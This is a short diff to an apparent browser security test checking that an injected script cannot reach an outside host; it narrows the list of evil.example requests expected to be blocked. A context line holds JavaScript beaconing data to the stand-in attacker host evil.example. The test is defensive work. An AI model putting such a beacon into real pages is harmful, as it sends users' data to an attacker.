@@ -524,7 +524,9 @@ def test_a_script_that_got_in_would_not_run_and_reach_nobody(browser: Browser, s
         navigator.sendBeacon('https://evil.example/b', 'x');
         }"""
     )
-    tried = sorted(f"https://evil.example/{name}" for name in ("b", "c.css", "f", "i"))
+    tried = sorted(
+        f"https://evil.example/{name}" for name in ("c.css", "i")
+    )  # a form, fetch and beacon are stopped before
     for _ in range(600):
         if sorted(stopped) == tried:
             break
